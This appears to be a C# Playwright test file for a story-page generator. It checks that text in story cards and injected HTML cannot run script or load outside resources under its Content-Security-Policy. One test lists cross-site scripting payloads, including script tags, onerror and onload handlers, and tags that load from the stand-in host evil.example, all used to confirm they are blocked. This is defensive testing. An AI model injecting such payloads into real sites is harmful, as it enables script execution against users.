using EngagementPipeline.Core.Shared;
using EngagementPipeline.Core.Stories;
using EngagementPipeline.Core.Stories.Cards;
using EngagementPipeline.Core.Voices;
using EngagementPipeline.Testing.Browser;
using Microsoft.Playwright;

namespace EngagementPipeline.Pages.Tests.Story;

/// <summary>
/// Every payload in every text of every type of card, in the quotes, their credits, the title and the summary, opened in a real browser as readers open it: with the
/// policy, and as if there were none. Nothing runs, nothing is asked for, and under the policy nothing even tries: it is encoding that holds, not luck.
/// </summary>
public sealed class HostilePagesTests(Chromium chromium)
{
    private const string Address = "https://stories.example.org/s/challenge-your-bias/";

    private const string UseEverything = """
        () => {
            for (const part of document.querySelectorAll("main *")) for (const name of ["mouseover", "focus", "input", "change", "toggle"]) part.dispatchEvent(new Event(name, { bubbles: true }));
            for (const part of document.querySelectorAll("details")) part.open = true;
            for (const button of document.querySelectorAll(".card button")) button.click();
        }
        """;

    // Hundreds of answers need not go over a wire, as long as none goes elsewhere.
    private const string HearAnswers = """
        window.fetch = async to => {
            if (!new URL(to, location.href).href.startsWith("https://stories.example.org/api/")) tried.push(`fetch ${to}`);
            return new Response(null, { status: 204 });
        };
        """;

    private const string Watch = "() => { window.tried = []; addEventListener('securitypolicyviolation', e => tried.push(e.violatedDirective + ' ' + e.blockedURI)); }";

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Nothing_that_anybody_wrote_runs_or_is_asked_for(bool policy)
    {
        await using var context = await chromium.NewContextAsync(o => o.BypassCSP = !policy);
        var (ran, asked, tried, html, header) = (new List<string>(), new List<string>(), new List<string>(), "", "");
        await context.AddInitScriptAsync($"({Watch})()");
        await context.AddInitScriptAsync(HearAnswers);
        await context.RouteAsync("**/*", route =>
        {
            var url = route.Request.Url;
            if (url == Address)
                return route.FulfillAsync(new() { Body = html, ContentType = "text/html; charset=utf-8", Headers = policy ? Header(header) : [] });
            if (!IsOurs(url))
                asked.Add(url);
            return route.FulfillAsync(new() { Status = 204 });
        });
        var page = await context.NewPageAsync();
        page.Dialog += (_, dialog) =>
        {
            ran.Add(dialog.Message);
            _ = dialog.AcceptAsync();
        };
        context.Page += (_, other) =>
        {
            if (other != page)
                asked.Add($"opened {other.Url}");
        };

        foreach (var payloads in Payloads.All.Chunk(6)) // several in one page, as one full of cards takes a while to open
        {
            var made = await Studio.Pages().StoryAsync(Saying(payloads));
            (html, header) = (policy ? made.Html : WithoutPolicy(made.Html), made.Policy);
            await page.GotoAsync(Address);
            await page.EvaluateAsync(UseEverything);
            tried.AddRange((await page.EvaluateAsync<string[]>("window.tried")).Where(each => !each.StartsWith("frame-src ", StringComparison.Ordinal) || !IsPlayer(each)).Select(each => $"{each}: one of {string.Join(" | ", payloads)}"));
            Assert.Equal(Address, page.Url);
            Assert.Equal(payloads[0], await page.Locator("h1").TextContentAsync());
            Assert.Equal(payloads, await page.EvaluateAsync<string[]>("[...new Set([...document.querySelectorAll('.card.quote blockquote')].map(words => words.textContent))]"));
        }

        Assert.Empty(ran);
        Assert.Empty(asked);
        Assert.Empty(tried);
        TestContext.Current.TestOutputHelper?.WriteLine($"{Payloads.All.Count} payloads, policy {(policy ? "on" : "off")}: none ran, none was asked for, none tried.");
    }

    [Fact]
    public async Task The_same_watching_sees_what_does_run()
    {
        await using var context = await chromium.NewContextAsync();
        var page = await context.NewPageAsync();
        var ran = new List<string>();
        page.Dialog += (_, dialog) =>
        {
            ran.Add(dialog.Message);
            _ = dialog.AcceptAsync();
        };
        var html = await Studio.HtmlOfAsync(Studio.APage());
        await page.SetContentAsync(WithoutPolicy(html).Replace("</main>", "<script>alert(1)</script></main>", StringComparison.Ordinal));

        Assert.Equal(["1"], ran);
    }

    /// <summary>Each way in which something could still get into the page, with the policy as readers have it: in the page and as a header, and each alone.</summary>
    [Theory]
    [InlineData(true, true)]
    [InlineData(true, false)]
    [InlineData(false, true)]
    public async Task The_policy_holds_on_its_own(bool inPage, bool asHeader)
    {
        var made = await Studio.Pages().StoryAsync(Studio.APage(CardSamples.AStory()));
        var html = inPage ? made.Html : WithoutPolicy(made.Html);
        await using var context = await chromium.NewContextAsync();
        await context.AddInitScriptAsync($"({Watch})()");
        var (ran, asked) = (new List<string>(), new List<string>());
        var body = "";
        await context.RouteAsync("**/*", route =>
        {
            if (route.Request.Url == Address)
                return route.FulfillAsync(new() { Body = body, ContentType = "text/html; charset=utf-8", Headers = asHeader ? Header(made.Policy) : [] });
            if (!IsOurs(route.Request.Url))
                asked.Add(route.Request.Url);
            return route.FulfillAsync(new() { Status = 204 });
        });
        var page = await context.NewPageAsync();
        page.Dialog += (_, dialog) =>
        {
            ran.Add(dialog.Message);
            _ = dialog.AcceptAsync();
        };

        foreach (var injected in new[]
        {
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)></svg>", "<script src=//evil.example/x.js></script>", "<iframe src=//evil.example/></iframe>",
            "<img src=//evil.example/x.png>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example/x)}</style>", "<object data=//evil.example/x></object>",
            "<script src=\"data:text/javascript,alert(1)\"></script>", "<script type=module>alert(1)</script>",
        })
        {
            body = html.Replace("</main>", $"{injected}</main>", StringComparison.Ordinal);
            await page.GotoAsync(Address);
            Assert.NotEmpty(await page.EvaluateAsync<string[]>("new Promise(done => { const end = Date.now() + 60000, look = () => tried.length || Date.now() > end ? done(tried) : setTimeout(look, 20); look(); })"));
        }

        // A page within the page is under the same policy, and tells of it there.
        body = html.Replace("</main>", "<iframe srcdoc=\"<script>alert(1)</script><p>x\"></iframe></main>", StringComparison.Ordinal);
        await page.GotoAsync(Address);
        await Assertions.Expect(page.FrameLocator("iframe[srcdoc]").Locator("p")).ToHaveTextAsync("x");

        Assert.Empty(ran);
        Assert.Empty(asked);
    }

    private static StoryPage Saying(string[] payloads)
    {
        var quotes = payloads.ToDictionary(_ => new VoiceId(Guid.NewGuid()), payload => payload).ToDictionary(
            voice => voice.Key, voice => new UsableQuote(voice.Key, default, voice.Value, voice.Value, voice.Value));
        var cards = payloads.SelectMany(payload => CardSamples.AStoryThatSays(payload).Cards).Where(card => card is not (QuoteCard or QuoteWallCard));
        return Studio.APage(
            CardSamples.AStoryThatSays(payloads[0]) with { Cards = [.. cards, .. quotes.Keys.Select(voice => new QuoteCard("q", voice)), new QuoteWallCard("w", [.. quotes.Keys])] },
            quotes);
    }

    private static Dictionary<string, string> Header(string policy) => new(StringComparer.Ordinal) { ["Content-Security-Policy"] = $"{policy}; frame-ancestors 'none'" };

    private static string WithoutPolicy(string html)
    {
        var start = html.IndexOf("<meta http-equiv=\"Content-Security-Policy\"", StringComparison.Ordinal);
        return html.Remove(start, html.IndexOf('>', start) + 1 - start);
    }

    private static bool IsOurs(string url) =>
        url.StartsWith("https://stories.example.org/", StringComparison.Ordinal) || url.StartsWith("data:image/", StringComparison.Ordinal) || IsPlayer(url) || url.StartsWith("about:", StringComparison.Ordinal);

    // The film's own button was pressed.
    private static bool IsPlayer(string url) => url.Contains("https://www.youtube-nocookie.com/", StringComparison.Ordinal) || url.Contains("https://player.vimeo.com/", StringComparison.Ordinal);
}
